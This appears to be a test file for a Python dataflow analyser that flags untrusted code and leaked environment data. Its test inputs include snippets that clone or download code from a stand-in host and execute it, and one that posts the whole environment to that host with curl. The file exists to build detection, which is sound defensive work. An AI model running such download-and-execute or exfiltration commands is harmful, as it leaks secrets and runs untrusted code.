import { expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** What reaches the last command of a script, as names of labels. */
function told(source: string): string {
  const { flows } = analyzePython(source, { script: true }).flow;
  const labels = flows.findLast(({ sink }) => sink === 'command')?.labels ?? 0;
  return Object.entries(LABEL)
    .filter(([, bit]) => (labels & bit) !== 0)
    .map(([name]) => name)
    .join('+');
}

test('what is cloned is started by a program that is told to, and not by what makes an environment in it', () => {
  const clone = "import subprocess\nsubprocess.run(['git', 'clone', 'https://a.weir.test/x', '/tmp/own'])\n";
  expect(told(`${clone}subprocess.run(['python', '/tmp/own/go.py'])`)).toContain('network+dropped');
  expect(told(`${clone}subprocess.run(['uv', 'venv', '--seed', '/tmp/own/.venv'])`)).not.toContain(
    'network+dropped',
  );
  expect(told(`${clone}subprocess.run('uv venv /tmp/own/.venv && /tmp/own/go', shell=True)`)).toContain(
    'network+dropped',
  );
});

test('the environment of a program is nothing that it is told', () => {
  const curl = (rest: string): string =>
    told(`import os, subprocess\nsubprocess.run(['curl', 'https://a.weir.test/x'${rest})`);
  expect(curl("], env={**os.environ, 'A': 'b'}")).not.toContain('envAll');
  expect(curl(", '-d', str(os.environ)]")).toContain('envAll');
  // What the command itself puts in is told.
  expect(
    told(
      "import os, subprocess\nsubprocess.run('curl -d \"$DATA\" https://a.weir.test/x', shell=True, env={'DATA': str(os.environ)})",
    ),
  ).toContain('envAll');
});

test.each([
  ['os.write', 'os.write(handle, data)\nos.close(handle)'],
  ['a file of the handle', 'os.fdopen(handle, "wb").write(data)'],
  ['open', 'open(handle, "wb").write(data)'],
])('what is put into a temporary file by its handle is what is started: %s', (_how, write) => {
  const source = `import os, tempfile, urllib.request\ndata = urllib.request.urlopen('https://a.weir.test/x').read()\nhandle, path = tempfile.mkstemp()\n${write}\n`;
  expect(told(`${source}os.execv(path, [path])`)).toContain('network+dropped');
  expect(told(`${source}os.execv('/usr/bin/true', ['true'])`)).toBe('');
});
